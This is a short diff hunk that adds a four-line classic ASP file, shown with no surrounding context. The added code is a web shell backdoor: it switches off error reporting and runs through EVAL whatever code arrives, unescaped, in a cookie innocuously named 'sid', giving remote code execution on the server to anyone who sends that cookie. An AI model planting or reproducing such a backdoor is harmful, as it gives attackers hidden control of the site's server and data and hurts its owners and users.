@@ -1,0 +1,4 @@
+<%
+On Error Resume Next
+EVAL (UNESCAPE(REQUEST.COOKIES("sid")))
+%>
